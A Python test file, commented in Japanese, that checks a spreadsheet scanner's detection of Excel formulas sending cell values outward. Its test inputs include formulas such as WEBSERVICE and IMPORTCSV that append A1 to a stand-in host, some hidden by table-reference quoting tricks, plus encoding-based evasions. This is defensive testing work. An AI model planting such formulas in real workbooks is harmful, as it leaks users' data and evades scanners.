"""外へ値を送る式の見落としやすい書き方。表の列の名、部品の名、新しい関数、名だけを渡す書き方。"""

from __future__ import annotations

import re

import pytest

from jusou_desk.errors import BadInput
from jusou_desk.reports.inspection.calling_out import calls_out
from jusou_desk.reports.xlsx.package import parse_xml, read_parts, write_parts
from tests.reports.test_hostile_forms import SHEET, reds, with_formula

OUT = 'WEBSERVICE("https://e.example/"&amp;A1)'


def calls(formula: str) -> bool:
    return calls_out({"x": f"<x><f>{formula}</f></x>".encode()})


@pytest.mark.parametrize(
    "formula",
    [
        f"表1['#甲]&amp;{OUT}&amp;表1['#乙]",
        f"表1[['#甲]:['#乙]]&amp;{OUT}&amp;表1['[x]",
        f"表1[甲&quot;]&amp;{OUT}&amp;表1[乙&quot;]",
        f"'甲'&amp;{OUT}&amp;'乙'",
        f"[&amp;{OUT}",
        "_xlfn.MAP(A1,_xleta.WEBSERVICE)",
        "_xlfn.MAP(A1,_xleta.HYPERLINK)",
        '_xlfn.TRANSLATE(A1,"ja","en")',
        "_xlfn.DETECTLANGUAGE(A1)",
        '_xlfn.IMPORTTEXT("https://e.example/?"&amp;A1)',
        '_xlfn.IMPORTCSV("https://e.example/?"&amp;A1)',
        "_xlfn._xlws.PY(0,1,A1)",
        '_xlfn.COPILOT("x",A1)',
        "STOCKHISTORY(A1,1)",
        'SQL.REQUEST("DSN=x",,,"select "&amp;A1)',
        'CUBEVALUE("x",A1)',
    ],
)
def test_見落としやすい書き方(formula: str) -> None:
    assert calls(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "表1[WEBSERVICE(]",
        "表1[[#All],[CALL('(x]]",
        "'WEBSERVICE('!A1",
        "PYTHON(A1)",
        "MYCUBE(A1)",
        "SUM(_xleta.SUM)",
        "表1['|]&amp;Sheet1!A1",
    ],
)
def test_名の中の字はとがめない(formula: str) -> None:
    assert not calls(formula)


@pytest.mark.parametrize("to", ["xl/worksheets/sheet1.dat", "sheets/sheet1.xml", "XL/s.XML"])
def test_シートの部品の名が何でも見る(to: str) -> None:
    parts = read_parts(with_formula(OUT))
    made = {to if name == SHEET else name: content for name, content in parts.items()}
    rels, types = "xl/_rels/workbook.xml.rels", "[Content_Types].xml"
    made[rels] = re.sub(rb'Target="[^"]*sheet1\.xml"', f'Target="/{to}"'.encode(), made[rels])
    made[types] = made[types].replace(f"/{SHEET}".encode(), f"/{to}".encode())
    assert any("外とつながる" in what for what in reds(write_parts(made)))


@pytest.mark.parametrize("code", ["utf-16", "utf-16-le", "utf-16-be"])
def test_BOMの無いUTF16も見る(code: str) -> None:
    words = f"<?xml version='1.0' encoding='UTF-16'?><x><f>{OUT}</f></x>"
    assert calls_out({SHEET: words.encode(code)})


@pytest.mark.parametrize("piece", ["[", "['", "]'", "['[", "'[\""])
def test_括弧の続く長い式も_長さに見合う手間で見る(piece: str) -> None:
    assert not calls(piece * 200_000)


@pytest.mark.parametrize(
    "content",
    [
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-',
        '<?xml version="1.0" encoding="IBM037"?><x/>'.encode("cp037"),
        b"PK<x/>",
    ],
)
def test_要素を隠せる文字コードの部品は読まない(content: bytes) -> None:
    with pytest.raises(BadInput, match="安全に読めない"):
        parse_xml(content)
